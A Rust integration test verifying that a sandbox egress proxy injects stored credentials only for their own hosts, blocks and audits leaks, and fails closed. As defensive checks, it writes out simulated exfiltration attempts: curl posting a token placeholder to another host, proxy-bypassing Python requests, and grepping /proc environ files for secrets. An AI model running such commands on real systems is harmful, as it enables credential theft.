//! Credentials injected by the egress proxy: the sandbox never holds a value, placeholders
//! are swapped only for their own hosts, and refusals reach the audit log.

use std::time::Duration;

use sandbase_egress::testing::Upstream;
use serde_json::json;

use crate::helpers::spawn_app_with;
use serde_json::Value;

use crate::testbed::{TestWorker, create_ok, sh};

use crate::egress::{NODE_NETWORK, credentials_worker};

const API_KEY: &str = "sk-live-3f9a8c7e6d5b4a392817f6e5d4c3b2a1";
pub const GIT_TOKEN: &str = "ghp_Zq8Xw7Vu6Ts5Rq4Po3Nm2Lk1Jh0Gf9Ed8Cb7";

/// The scenario's cast: a gateway with a vault, a worker with an egress network and the
/// `base` template, an HTTPS upstream, Alice's secrets and her sandbox holding them.
pub struct Scene {
    pub app: crate::helpers::TestApp,
    pub token: String,
    pub upstream: Upstream,
    id: String,
    /// What the sandbox holds instead of the `git` token.
    placeholder: String,
}

/// Credentials from the vault reach the upstream (header injection, a placeholder swapped)
/// while the sandbox sees only placeholders; a placeholder sent to another allowed host is
/// stopped and audited; tools that ignore the proxy variables are redirected and governed;
/// the value is found nowhere afterwards.
#[tokio::test(flavor = "multi_thread")]
async fn credentials_are_injected_by_the_proxy_and_never_reach_the_sandbox() {
    let _network = NODE_NETWORK.lock().await;
    for isolation in crate::testbed::ISOLATIONS {
        credentials_stay_out_under(isolation).await;
    }
}

async fn credentials_stay_out_under(isolation: sandbase_api::sandboxes::Isolation) {
    let (scene, worker) = credentials_scene(isolation).await;
    the_header_is_injected_for_its_host(&scene).await;
    a_placeholder_is_swapped_for_its_host_and_stopped_for_others(&scene).await;
    placeholders_in_bodies_are_swapped_or_stopped(&scene).await;
    a_host_outside_the_policy_is_closed_after_its_client_hello(&scene).await;
    refusals_reach_the_audit_log_once(&scene).await;
    dns_answers_only_allowed_names(&scene).await;
    udp_reaches_only_the_dns_responder(&scene).await;
    the_proxy_runs_unprivileged_and_fails_closed_when_killed(&scene, &worker).await;
    crate::egress_readback::echoing_upstreams_hand_back_only_placeholders(&scene).await;
    crate::egress_readback::only_allowed_roles_attach_a_secret(&scene).await;
    the_values_are_nowhere_to_be_read(&scene).await;
    runs_get_egress_and_credentials_like_sandboxes(&scene).await;
    scene
        .app
        .delete(&format!("/v1/sandboxes/{}", scene.id), &scene.token)
        .await;
    worker.clean_up_with(&["base"]).await;
}

/// Starts the upstream, a gateway with a vault and a worker with an egress network; stores
/// Alice's secrets and creates her sandbox with them.
async fn credentials_scene(isolation: sandbase_api::sandboxes::Isolation) -> (Scene, TestWorker) {
    // From here on, everything logged is kept, to be searched for the values at the end.
    crate::helpers::captured_logs();
    let upstream = Upstream::start();
    upstream.wait_ready().await;
    let app = spawn_app_with(move |settings| {
        crate::testbed::configure_sandboxes(settings);
        settings.sandboxes.default_isolation = isolation;
        settings.workers.heartbeat_ttl_secs = 5;
        settings.vault.keys = vec![sandbase_vault::Keyring::generate_entry(1).into()];
    })
    .await;
    let worker = TestWorker::start(credentials_worker(&app, &upstream)).await;
    let alice = app.signup("alice@example.com", "Alice").await;
    let token = alice.api_key.token.as_str();
    for (name, value, host, inject) in [
        (
            "api",
            API_KEY,
            "api.test.example",
            json!({ "header": "Authorization", "format": "Bearer {value}" }),
        ),
        (
            "git",
            GIT_TOKEN,
            "git.test.example",
            // Swapped in bodies only where the API needs it.
            json!({ "placeholder": { "env": "GIT_TOKEN", "in_body": true,
                                     "paths": ["/small", "/big", "/echo*"] } }),
        ),
    ] {
        let created = app
            .post(
                "/v1/secrets",
                token,
                json!({ "name": name, "value": value, "hosts": [host], "inject": inject }),
            )
            .await;
        assert_eq!(created.status.as_u16(), 201, "{}", created.body);
    }
    // Credentials need egress, and must exist.
    app.post("/v1/sandboxes", token, json!({ "credentials": ["api"] }))
        .await
        .assert_error(422, "credentials_need_egress");
    let allow = json!([
        "api.test.example",
        "git.test.example",
        "other.test.example",
        "loopback.test.example"
    ]);
    app.post(
        "/v1/sandboxes",
        token,
        json!({ "egress": { "allow": allow }, "credentials": ["nope"] }),
    )
    .await
    .assert_error(422, "unknown_credential");
    let id = create_ok(
        &app,
        token,
        json!({ "template": "base", "egress": { "allow": allow }, "credentials": ["api", "git"] }),
    )
    .await;
    let sandbox = app.get(&format!("/v1/sandboxes/{id}"), token).await.body;
    assert_eq!(sandbox["credentials"], json!(["api", "git"]));
    let placeholder = sh(&app, token, &id, "printf %s \"$GIT_TOKEN\"").await["stdout"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        placeholder.starts_with("ghp_")
            && placeholder.len() == GIT_TOKEN.len()
            && placeholder != GIT_TOKEN,
        "{placeholder}"
    );
    let scene = Scene {
        token: token.to_owned(),
        upstream,
        id,
        placeholder,
        app,
    };
    (scene, worker)
}

/// A Python request that ignores the proxy variables (the redirected port 443 and the
/// ClientHello's name govern it), carrying the `GIT_TOKEN` placeholder to `host`.
fn python_request(upstream: &Upstream, host: &str) -> String {
    format!(
        "env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy python3 - <<'EOF'\n\
import os, ssl, socket, http.client\n\
ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])\n\
sock = socket.create_connection(('{upstream}', 443), timeout=10)\n\
conn = http.client.HTTPSConnection('{host}', context=ctx)\n\
conn.sock = ctx.wrap_socket(sock, server_hostname='{host}')\n\
conn.request('GET', '/repo', headers={{'Authorization': 'token ' + os.environ['GIT_TOKEN']}})\n\
r = conn.getresponse()\n\
print(r.status)\n\
print(r.read().decode())\n\
EOF",
        upstream = upstream.address
    )
}

/// curl through HTTPS_PROXY: the sandbox's CA is trusted, the header injected (the
/// upstream shows it redacted; its log has the value).
async fn the_header_is_injected_for_its_host(scene: &Scene) {
    let (app, token, upstream, id) = (&scene.app, scene.token.as_str(), &scene.upstream, &scene.id);
    let answer = sh(
        app,
        token,
        id,
        "curl -sS --max-time 10 -H 'Authorization: Bearer fake' https://api.test.example/v1/models",
    )
    .await;
    let stdout = answer["stdout"].as_str().unwrap();
    assert!(
        stdout.starts_with("GET /v1/models HTTP/1.1") && stdout.contains("<redacted>"),
        "{answer}"
    );
    assert!(
        upstream.requests().to_ascii_lowercase().contains(&format!(
            "authorization: bearer {}",
            API_KEY.to_ascii_lowercase()
        )),
        "{}",
        upstream.requests()
    );
}

/// A placeholder in the environment, swapped on the way to its host (python, ignoring the
/// proxy variables: the redirected port 443 and the ClientHello's name govern it).
async fn a_placeholder_is_swapped_for_its_host_and_stopped_for_others(scene: &Scene) {
    let (app, token, upstream, id) = (&scene.app, scene.token.as_str(), &scene.upstream, &scene.id);
    let answer = sh(
        app,
        token,
        id,
        &python_request(upstream, "git.test.example"),
    )
    .await;
    assert!(
        answer["stdout"]
            .as_str()
            .unwrap()
            .starts_with("200\nGET /repo HTTP/1.1"),
        "{answer}"
    );
    assert!(
        upstream.requests().to_ascii_lowercase().contains(&format!(
            "authorization: token {}",
            GIT_TOKEN.to_ascii_lowercase()
        )),
        "{}",
        upstream.requests()
    );
    // The same placeholder to another allowed host: stopped before it leaves.
    let before = upstream.requests();
    let answer = sh(
        app,
        token,
        id,
        &python_request(upstream, "other.test.example"),
    )
    .await;
    let stdout = answer["stdout"].as_str().unwrap();
    assert!(
        stdout.starts_with("403") && stdout.contains("placeholder of credential `git`"),
        "{answer}"
    );
    assert_eq!(upstream.requests(), before, "the leaking request left");
}

/// Placeholders in request bodies: swapped for their host (a small body, and one of
/// 2 MB with the placeholder astride the proxy's chunks, lengths kept), stopped for
/// another host before any of it leaves.
async fn placeholders_in_bodies_are_swapped_or_stopped(scene: &Scene) {
    let (app, token, upstream, id, placeholder) = (
        &scene.app,
        scene.token.as_str(),
        &scene.upstream,
        &scene.id,
        &scene.placeholder,
    );
    let answer = sh(
        app,
        token,
        id,
        "curl -sS --max-time 10 --data-binary \"{\\\"token\\\": \\\"$GIT_TOKEN\\\"}\" https://git.test.example/small; \
         python3 -c \"import os; open('/tmp/big', 'w').write('a' * 1000001 + os.environ['GIT_TOKEN'] + 'b' * 999999)\"; \
         curl -sS --max-time 20 --data-binary @/tmp/big https://git.test.example/big",
    )
    .await;
    let stdout = answer["stdout"].as_str().unwrap();
    assert!(
        stdout.contains(&format!(
            "POST /small HTTP/1.1\nbody: {} bytes",
            GIT_TOKEN.len() + 13
        )) && stdout.contains(&format!(
            "POST /big HTTP/1.1\nbody: {} bytes",
            2_000_000 + GIT_TOKEN.len()
        )),
        "{answer}"
    );
    let requests = upstream.requests();
    assert!(
        requests.contains(&format!("{{\"token\": \"{GIT_TOKEN}\"}}"))
            && requests.contains(&format!("a{GIT_TOKEN}b")),
        "the upstream got the value in both bodies"
    );
    assert!(
        !requests.contains(placeholder.as_str()),
        "a placeholder reached its own host"
    );
    let answer = sh(
        app,
        token,
        id,
        "curl -sS --max-time 10 --data-binary \"key=$GIT_TOKEN\" https://other.test.example/leak",
    )
    .await;
    let stdout = answer["stdout"].as_str().unwrap();
    assert!(
        stdout.contains("placeholder of credential `git`, which is not for other.test.example"),
        "{answer}"
    );
    assert!(
        !upstream.requests().contains(placeholder.as_str()),
        "the placeholder left for another host"
    );
    // A body on a path the secret does not name keeps its placeholder (a gist stores
    // what it is sent, to be read back).
    let answer = sh(
        app,
        token,
        id,
        "curl -sS --max-time 10 --data-binary \"{\\\"gist\\\": \\\"$GIT_TOKEN\\\"}\" https://git.test.example/gists",
    )
    .await;
    assert!(
        answer["stdout"]
            .as_str()
            .unwrap()
            .contains("POST /gists HTTP/1.1"),
        "{answer}"
    );
    let requests = upstream.requests();
    assert!(
        requests.contains(&format!("{{\"gist\": \"{placeholder}\"}}"))
            && !requests.contains(&format!("{{\"gist\": \"{GIT_TOKEN}\"}}")),
        "{requests}"
    );
}

/// A host outside the policy over the redirected port: closed after its ClientHello.
async fn a_host_outside_the_policy_is_closed_after_its_client_hello(scene: &Scene) {
    let (app, token, upstream, id) = (&scene.app, scene.token.as_str(), &scene.upstream, &scene.id);
    let answer = sh(
        app,
        token,
        id,
        &format!(
            "curl -sS --noproxy '*' --max-time 10 --resolve denied.test.example:443:{} https://denied.test.example/ ; echo exit=$?",
            upstream.address
        ),
    )
    .await;
    let stdout = answer["stdout"].as_str().unwrap();
    assert!(
        stdout.contains("exit=35") || stdout.contains("exit=56"),
        "{answer}"
    );

    let flows = app
        .get(&format!("/v1/sandboxes/{id}/egress"), token)
        .await
        .body;
    let flows = flows["flows"].as_array().unwrap();
    let injected: Vec<&Value> = flows
        .iter()
        .filter(|f| f["decision"] == "injected")
        .collect();
    assert!(
        injected
            .iter()
            .any(|f| f["credentials"] == json!(["api"]) && f["mode"] == "connect")
            && injected
                .iter()
                .any(|f| f["credentials"] == json!(["git"]) && f["mode"] == "transparent-tls"),
        "{flows:?}"
    );
    assert!(
        flows.iter().any(|f| f["decision"] == "denied"
            && f["host"] == "other.test.example"
            && f["mode"] == "https"),
        "{flows:?}"
    );
    assert!(
        flows.iter().any(|f| f["decision"] == "denied"
            && f["host"] == "denied.test.example"
            && f["mode"] == "transparent-tls"),
        "{flows:?}"
    );
}

/// Refusals reach the team's audit log, from the worker, once each (the placeholder was
/// stopped twice: in a header, and in a body) — folded into one row with its count when
/// they fall in the same report.
async fn refusals_reach_the_audit_log_once(scene: &Scene) {
    let (app, token, id) = (&scene.app, scene.token.as_str(), &scene.id);
    for (action, detail, times) in [
        ("sandbox.credential_leak_blocked", "credential' = 'git", 2),
        ("sandbox.egress_denied", "host' = 'denied.test.example", 1),
    ] {
        let query = format!(
            "SELECT coalesce(sum(coalesce((details->>'count')::bigint, 1)), 0)::bigint \
             FROM audit_events WHERE action = '{action}' \
             AND target = 'sandbox:{id}' AND outcome = 'denied' AND details->>'{detail}'"
        );
        crate::testbed::wait_until(action, Duration::from_secs(15), || async {
            app.count(&query).await == times
        })
        .await;
    }
    let audit = app.get("/v1/audit", token).await.body.to_string();
    assert!(audit.contains("sandbox.credential_leak_blocked"), "{audit}");
    let bob = app.signup("bob@example.com", "Bob").await;
    let theirs = app
        .get("/v1/audit", &bob.api_key.token)
        .await
        .body
        .to_string();
    assert!(!theirs.contains("sandbox.egress_denied"), "{theirs}");
}

/// DNS: the node's responder answers allowed names (whatever resolver the template
/// named) and nothing else; a name that leads inside is refused too.
async fn dns_answers_only_allowed_names(scene: &Scene) {
    let (app, token, upstream, id) = (&scene.app, scene.token.as_str(), &scene.upstream, &scene.id);
    let answer = sh(
        app,
        token,
        id,
        "cat /etc/resolv.conf | head -1; for name in api.test.example denied.test.example \
         loopback.test.example; do python3 -c \"import socket, sys
try: print(socket.gethostbyname(sys.argv[1]))
except socket.gaierror as e: print('no', e.errno)\" $name; done",
    )
    .await;
    let lines: Vec<&str> = answer["stdout"].as_str().unwrap().lines().collect();
    assert_eq!(lines.len(), 4, "{answer}");
    assert_eq!(lines[0], "nameserver 192.0.2.53");
    assert_eq!(lines[1], upstream.address.to_string(), "{answer}");
    assert!(lines[2].starts_with("no "), "{answer}");
    assert!(lines[3].starts_with("no "), "{answer}");
    let flows = app
        .get(&format!("/v1/sandboxes/{id}/egress"), token)
        .await
        .body;
    let dns: Vec<(&str, &str)> = flows["flows"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["mode"] == "dns")
        .map(|f| (f["host"].as_str().unwrap(), f["decision"].as_str().unwrap()))
        .collect();
    assert!(
        dns.contains(&("denied.test.example", "denied"))
            && dns.contains(&("loopback.test.example", "denied"))
            && !dns.iter().any(|(host, _)| *host == "api.test.example"),
        "{dns:?}"
    );
}

/// UDP: port 53 reaches the node's DNS responder (a malformed query gets its FORMERR,
/// which shows this sandbox's UDP works), anything else is dropped — here a host port
/// this test listens on, at the sandbox's gateway (the proxy's address).
async fn udp_reaches_only_the_dns_responder(scene: &Scene) {
    let (app, token, id) = (&scene.app, scene.token.as_str(), &scene.id);
    let listener = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    listener
        .set_read_timeout(Some(Duration::from_secs(3)))
        .unwrap();
    let port = listener.local_addr().unwrap().port();
    let answer = sh(
        app,
        token,
        id,
        &format!(
            "python3 - <<'EOF'\n\
import os, socket\n\
gateway = os.environ['http_proxy'].split('//')[1].split(':')[0]\n\
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
s.settimeout(3)\n\
s.sendto(b'abcdefghijklmnop', ('192.0.2.53', 53))\n\
print(len(s.recv(512)))\n\
s.sendto(b'hello', (gateway, {port}))\n\
print(gateway)\n\
EOF"
        ),
    )
    .await;
    let stdout = answer["stdout"].as_str().unwrap();
    assert!(stdout.starts_with("12\n10.214."), "{answer}");
    let mut received = [0u8; 64];
    assert!(
        listener.recv_from(&mut received).is_err(),
        "a UDP datagram from the sandbox reached the host"
    );
}

/// The proxy is a process of its own, not root. Killed, it leaves the sandbox reaching
/// nothing (nothing listens behind the redirections; the firewall drops the rest); the
/// worker starts another after its restart delay and registers the sandbox again —
/// policy, credentials and the same CA — and the same request works as before.
async fn the_proxy_runs_unprivileged_and_fails_closed_when_killed(
    scene: &Scene,
    worker: &TestWorker,
) {
    let (app, token, upstream, id) = (&scene.app, scene.token.as_str(), &scene.upstream, &scene.id);
    let network = std::sync::Arc::clone(
        worker
            .running
            .as_ref()
            .unwrap()
            .node()
            .network()
            .expect("egress network"),
    );
    let first = network.proxy_pid().expect("the proxy runs");
    let status = std::fs::read_to_string(format!("/proc/{first}/status")).unwrap();
    for field in ["Uid:", "Gid:"] {
        let line = status.lines().find(|l| l.starts_with(field)).unwrap();
        assert!(
            line.split_whitespace().skip(1).all(|id| id == "65534"),
            "{line}"
        );
    }
    assert!(
        status.lines().any(|l| l == "NoNewPrivs:\t1")
            && status.contains("CapEff:\t0000000000000000"),
        "{status}"
    );
    let injected_before = upstream
        .requests()
        .to_ascii_lowercase()
        .matches(&format!(
            "authorization: bearer {}",
            API_KEY.to_ascii_lowercase()
        ))
        .count();
    let killed = std::process::Command::new("kill")
        .args(["-KILL", &first.to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    let attempts = format!(
        "curl -sS --max-time 5 -o /dev/null https://api.test.example/v1/models; echo proxy=$?; \
         curl -sS --noproxy '*' --max-time 5 -o /dev/null --resolve api.test.example:443:{0} \
         https://api.test.example/v1/models; echo direct=$?",
        upstream.address
    );
    let down = sh(app, token, id, &attempts).await;
    assert!(
        network.proxy_pid().is_none(),
        "the proxy came back before the sandbox tried"
    );
    let stdout = down["stdout"].as_str().unwrap();
    assert_eq!(stdout.lines().count(), 2, "{down}");
    for (what, line) in ["proxy", "direct"].iter().zip(stdout.lines()) {
        assert!(
            line.starts_with(what) && !line.ends_with("=0"),
            "{what} reached out with the proxy down: {down}"
        );
    }
    crate::testbed::wait_until("another proxy process", Duration::from_secs(30), || {
        let pid = network.proxy_pid();
        async move { pid.is_some_and(|pid| pid != first) }
    })
    .await;
    let answer = sh(
        app,
        token,
        id,
        "curl -sS --max-time 10 -H 'Authorization: Bearer fake' https://api.test.example/v1/models",
    )
    .await;
    assert!(
        answer["stdout"]
            .as_str()
            .unwrap()
            .starts_with("GET /v1/models HTTP/1.1"),
        "{answer}"
    );
    assert_eq!(
        upstream
            .requests()
            .to_ascii_lowercase()
            .matches(&format!(
                "authorization: bearer {}",
                API_KEY.to_ascii_lowercase()
            ))
            .count(),
        injected_before + 1,
        "injected again after the restart"
    );
}

/// The values are nowhere the sandbox, the API or the database can show them.
async fn the_values_are_nowhere_to_be_read(scene: &Scene) {
    let (app, token, id) = (&scene.app, scene.token.as_str(), &scene.id);
    let answer = sh(
        app,
        token,
        id,
        // (Each value in halves, so the command itself does not carry it.)
        &format!(
            "a1='{}'; a2='{}'; g1='{}'; g2='{}'; \
             grep -rlas -e \"$a1$a2\" -e \"$g1$g2\" /proc/[0-9]*/environ /tmp /work /etc | wc -l",
            &API_KEY[..10],
            &API_KEY[10..],
            &GIT_TOKEN[..10],
            &GIT_TOKEN[10..]
        ),
    )
    .await;
    assert_eq!(answer["stdout"], "0\n", "{answer}");
    let answers = [
        app.get(&format!("/v1/sandboxes/{id}"), token).await.body,
        app.get(&format!("/v1/sandboxes/{id}/egress"), token)
            .await
            .body,
        app.get("/v1/secrets", token).await.body,
        app.get("/v1/audit", token).await.body,
    ];
    for answer in answers {
        let text = answer.to_string();
        assert!(
            !text.contains(API_KEY) && !text.contains(GIT_TOKEN),
            "{text}"
        );
    }
    for value in [API_KEY, GIT_TOKEN] {
        let found = app
            .count(&format!(
                "SELECT count(*) FROM (SELECT 1 FROM sandboxes s WHERE s::text LIKE '%{value}%' \
                 UNION ALL SELECT 1 FROM audit_events a WHERE a::text LIKE '%{value}%' \
                 UNION ALL SELECT 1 FROM secret_versions v WHERE v::text LIKE '%{value}%') found"
            ))
            .await;
        assert_eq!(found, 0);
    }
    // Nor in the logs of the gateway, the worker or the proxy (whose lines the worker logs
    // as its own; its flow lines name the credentials it injected).
    let logs = crate::helpers::captured_logs();
    assert!(
        logs.contains("egress_proxy") && logs.contains(r#"credentials=["api"]"#),
        "the proxy's log reaches the worker's"
    );
    for value in [API_KEY, GIT_TOKEN] {
        assert!(!logs.contains(value), "a value in the logs");
    }
}

/// Runs get egress and credentials like sandboxes: the proxy injects for the run's
/// sandbox, and the run's record keeps the names.
async fn runs_get_egress_and_credentials_like_sandboxes(scene: &Scene) {
    let (app, token, upstream) = (&scene.app, scene.token.as_str(), &scene.upstream);
    app.post(
        "/v1/runs",
        token,
        json!({ "command": "true", "credentials": ["nope"], "egress": { "allow": ["api.test.example"] } }),
    )
    .await
    .assert_error(422, "unknown_credential");
    app.post(
        "/v1/runs",
        token,
        json!({ "command": "true", "credentials": ["api"] }),
    )
    .await
    .assert_error(422, "credentials_need_egress");
    let queued = app
        .post(
            "/v1/runs",
            token,
            json!({
                "template": "base",
                "command": "curl -sS --max-time 10 https://api.test.example/from-a-run",
                "egress": { "allow": ["api.test.example"] },
                "credentials": ["api"],
            }),
        )
        .await;
    assert_eq!(queued.status.as_u16(), 202, "{}", queued.body);
    assert_eq!(queued.body["credentials"], json!(["api"]));
    let run_id = queued.body["id"].as_str().unwrap().to_owned();
    let run = crate::testbed::finished_run(app, token, &run_id).await;
    assert_eq!(run["exit_code"], 0, "{run}");
    assert!(
        run["stdout"]
            .as_str()
            .unwrap()
            .starts_with("GET /from-a-run HTTP/1.1"),
        "{run}"
    );
    assert!(
        upstream.requests().contains("GET /from-a-run")
            && upstream
                .requests()
                .to_ascii_lowercase()
                .matches(&format!(
                    "authorization: bearer {}",
                    API_KEY.to_ascii_lowercase()
                ))
                .count()
                >= 3,
        "{}",
        upstream.requests()
    );
    assert!(!run.to_string().contains(API_KEY), "{run}");
}
